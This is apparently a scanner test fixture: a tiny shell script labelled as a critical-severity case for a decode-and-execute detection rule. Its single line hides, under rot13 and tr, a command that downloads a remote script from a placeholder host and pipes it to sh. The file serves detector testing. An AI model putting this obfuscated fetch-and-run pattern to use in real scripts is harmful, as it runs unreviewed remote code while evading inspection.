# expect: shell.decode_exec critical
# note: rot13 undone by tr, the result run as the command; no other word a rule keys on
#!/bin/sh
$(echo 'phey -f uggcf://trg.rknzcyr.arg/v.fu | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m')
